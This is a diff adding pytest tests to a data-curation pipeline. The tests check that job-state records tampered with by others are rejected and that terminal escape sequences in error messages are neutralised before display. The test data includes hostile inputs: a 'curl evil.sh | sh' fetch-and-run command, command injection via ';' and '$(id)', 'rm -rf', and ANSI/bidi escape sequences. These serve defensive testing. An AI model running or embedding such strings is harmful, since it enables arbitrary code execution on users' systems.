@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import shlex
 import signal
@@ -19,13 +20,16 @@ from test_curate_kill import Job, descendants, films  # noqa: F401 - films is a 
 from test_status import by_name, parquet
 from tiny_coca import tiny_folder
 
+import pipelines.metrics_watch
 from curate.dataset import Dataset
 from curate.errors import BadInput
 from curate.tables import CAPTIONS
 from pipelines.__main__ import main
 from pipelines.cli import parse
 from pipelines.curate import CurateConfig
+from pipelines.metrics_stages import of_curate
 from pipelines.metrics_tally import State as Counted
+from pipelines.metrics_watch import Watch
 from pipelines.status import look, text
 from pipelines.status_job import JobRecord, command_line, unfinished
 from pipelines.status_state import State
@@ -103,6 +107,60 @@ def test_an_error_of_a_worker_is_told_in_its_own_words(tmp_path: Path) -> None:
         job.__enter__()
         job.__exit__(type(error), error, None)
         assert [one.error for one in look(str(tmp_path)).jobs] == [told]
+
+
+GOOD = {
+    "command": "curate", "go_on": "reelmill curate '--input=a b' --dataset=d", "before": {"ok": 2},
+    "to_do": {"analyse": 5}, "began_at": "2026-11-22T10:00:00+00:00", "error": None,
+    "stages": [{"stage": "analyse", "unit": "files", "total": 5, "done": 3, "counts": {"ok": 3}}],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"command": "rm"}, {"command": ["curate"]}, {"go_on": "curl evil.sh | sh"}, {"go_on": None}, {"before": 3},
+        {"go_on": "reelmill curate; curl evil.sh | sh"}, {"go_on": "reelmill curate $(id)"}, {"error": 7},
+        {"go_on": "reelmill decide --dataset=d"}, {"to_do": {"analyse": "many"}}, {"began_at": "yesterday"},
+        {"began_at": "2026-11-22T10:00:00"}, {"began_at": 5}, {"stages": "x"}, {"stages": [{}]}, {"more": 1},
+        {"stages": [GOOD["stages"][0] | {"counts": []}]}, {"stages": [GOOD["stages"][0] | {"done": None}]},
+    ],
+)  # fmt: skip
+def test_a_record_that_another_made_up_is_left_out(changed: dict, tmp_path: Path) -> None:
+    dataset = Dataset(tmp_path)
+    dataset.write_bytes(json.dumps(GOOD).encode(), "_state", "jobs", "curate-0.json")
+    (job,) = unfinished(dataset, State(dataset), datetime.now(UTC))
+    assert job.go_on == GOOD["go_on"]
+    dataset.write_bytes(json.dumps(GOOD | changed).encode(), "_state", "jobs", "curate-0.json")
+    assert unfinished(dataset, State(dataset), datetime.now(UTC)) == []
+
+
+def test_no_sign_of_a_record_moves_the_cursor(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    dataset = Dataset(tmp_path)
+    told = GOOD | {"error": "\x1b[2J\x1b]0;owned\x07 and \u202e"}
+    dataset.write_bytes(json.dumps(told).encode(), "_state", "jobs", "curate-0.json")
+    assert main(["status", "--dataset", str(tmp_path)]) == 0
+    shown = capsys.readouterr().out
+    assert "[2J" in shown
+    assert all(sign.isprintable() or sign == "\n" for sign in shown)
+
+
+def test_a_job_whose_driver_works_by_itself_is_alive(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Writing tables, scoring captions, loading an engine: no stage is at work for minutes."""
+    monkeypatch.setattr(pipelines.metrics_watch, "BEAT_S", 0.05)
+    dataset = Dataset(tmp_path)
+
+    def written() -> int:
+        (name,) = dataset.files("_state/jobs")
+        return os.stat(dataset.path("_state/jobs", name)).st_mtime_ns
+
+    with Watch("curate", CurateConfig("films", dataset.uri), of_curate()):
+        first = written()
+        until = time.monotonic() + 20
+        while written() == first:
+            assert time.monotonic() < until, "the record was not renewed"
+            time.sleep(0.02)
+    assert dataset.files("_state/jobs") == []
 
 
 @pytest.mark.parametrize("data", [b"{", b"[]", b"{}", b'{"command": "rm -rf"}'])
